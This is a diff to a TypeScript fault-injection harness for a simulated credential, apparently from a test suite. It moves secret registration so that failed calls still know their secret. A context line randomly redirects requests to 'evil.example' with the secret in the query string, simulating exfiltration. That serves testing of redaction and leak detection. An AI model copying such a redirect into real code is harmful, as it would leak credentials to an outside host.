@@ -61,7 +61,6 @@ function ownCredential(world: World): Credential {
   const { dice } = world;
   let current = world.newSecret();
   const apply: Credential['apply'] = (request) => {
-    request.addSecrets?.([current]);
     request.headers['x-own-key'] = current;
     if (!world.isCalm && dice.chance(0.01)) request.headers['x-lie'] = dice.pick<never>([7, 'a\nb', null] as never[]);
     if (!world.isCalm && dice.chance(0.01)) request.url = `https://evil.example/?${current}`;
@@ -71,9 +70,14 @@ function ownCredential(world: World): Credential {
     return dice.chance(0.7);
   };
   const known = () => current;
+  const failing = unreliable(world, 0.05, nothings, apply, known);
   return {
     scheme: 'own',
-    apply: unreliable(world, 0.05, nothings, apply, known),
+    apply: (request) => {
+      // Whatever fails, the call knows which secret it has.
+      request.addSecrets?.([current]);
+      return failing(request);
+    },
     onUnauthorized: unreliable(world, 0.1, nothings, onUnauthorized, known),
     scrub: unreliable(world, 0.1, nothings, (text: string) => text.replaceAll(current, '[redacted]')),
   };
